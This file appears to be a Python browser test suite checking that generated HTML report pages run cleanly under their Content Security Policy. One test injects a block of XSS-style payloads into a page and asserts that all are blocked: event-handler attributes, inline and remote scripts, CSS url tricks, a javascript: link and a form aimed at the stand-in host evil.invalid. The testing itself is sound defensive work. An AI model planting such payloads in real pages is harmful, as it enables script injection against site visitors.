"""Pages live under the policy that they carry, and what gets past every other check does not run under it."""

from __future__ import annotations

import shutil

import pytest

from explainer.acceptance import host
from explainer.acceptance.chromium import until

pytestmark = pytest.mark.slow

#: Presses everything that can be pressed, and what opens and closes once more. Links within the page are
#: clicked too; that the browser goes to their places is its own doing, and seen once for each kind of link.
PRESS = """async () => {
    const wait = () => new Promise((resolve) => setTimeout(resolve, 30));
    const followed = new Set();
    // The page's own listeners come before those of the window.
    window.addEventListener("click", (event) => {
        const link = event.target.closest('a[href^="#"]');
        if (link) {
            const place = document.getElementById(decodeURIComponent(link.hash.slice(1)));
            const kind = [link.className, link.parentElement.tagName, place?.tagName, place?.className];
            if (followed.has(kind.join())) event.preventDefault();
            followed.add(kind.join());
        }
    });
    let pressed = 0;
    const twice = "summary, button, [tabindex]:not(a)";
    for (const controls of [`${twice}, a[href^="#"], a[tabindex]`, twice]) {
        const all = document.querySelectorAll(controls);
        // First, because it needs the layout, which a press may change: a table is sorted.
        for (const one of all) one.focus({ preventScroll: true });
        for (const one of all) {
            one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
            one.dispatchEvent(new KeyboardEvent("keydown", { key: "ArrowRight", bubbles: true }));
            pressed += 1;
            if (pressed % 20 === 0) await wait();
        }
    }
    return pressed;
}"""
VIOLATIONS = """() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
        window.violations.push(`${event.effectiveDirective}: ${event.blockedURI}`);
    });
}"""
HOSTILE = """
<span tabindex="0" autofocus onfocus="window.ran = 'attribute'">x</span>
<script>window.ran = 'script'</script>
<script src="data:text/javascript,window.ran = 'data'"></script>
<script src="https://evil.invalid/x.js"></script>
<details open ontoggle="window.ran = 'toggle'">x</details>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<img src="https://evil.invalid/a.png" onerror="window.ran = 'error'" alt="x">
<p style="background: image-set('https://evil.invalid/b.png' 1x)">x</p>
<p style="background: u\\72l(https://evil.invalid/c.png)">x</p>
<a id="away" href="javascript:window.ran = 'link'">x</a>
<form action="https://evil.invalid/"><button id="send">x</button></form>
"""


def pages(report):
    return sorted(path.relative_to(report).as_posix() for path in report.rglob("*.html"))


def test_every_page_works_under_its_policy(visit, published):
    found = pages(published.report)
    assert len(found) > 10
    visited = visit(found[0])
    for name in found:
        page = visited.open(name)
        page.evaluate(VIOLATIONS)
        pressed = page.evaluate(PRESS)
        assert pressed or name.startswith("embed/")
        if page.locator(".explore").count():
            page.wait_for_load_state("networkidle")
            until(page, "document.querySelectorAll('.explore[aria-busy=true]').length === 0")
        assert page.evaluate("window.violations") == [], name
        assert visited.complaints == [], name


def test_a_page_from_a_file_works_under_it_too(browser, published):
    context = browser.new_context()
    page, complaints = context.new_page(), []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto((published.report / "index.html").as_uri())
    page.locator(".explore").first.click()
    page.locator(".live svg").wait_for()
    assert page.evaluate("document.fonts.check('16px Newsreader')")
    assert complaints == []
    context.close()


def test_what_gets_past_every_check_neither_runs_nor_fetches(browser, published, tmp_path):
    folder = tmp_path / "report"
    shutil.copytree(published.report, folder)
    path = folder / "index.html"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('<div class="text">', f'<div class="text">{HOSTILE}', 1), encoding="utf-8")
    context = browser.new_context()
    page, sent, refused = context.new_page(), [], []
    context.route("**/evil.invalid/**", lambda route: (sent.append(route.request.url), route.abort()))
    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    with host.serving(folder) as served:
        page.goto(served.address, wait_until="load")
        for name in ("away", "send"):
            page.evaluate(f"document.getElementById('{name}').click()")
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") is None
        assert page.url == served.address
    assert sent == []
    assert len([text for text in refused if "Content Security Policy" in text]) >= 8, refused
    context.close()
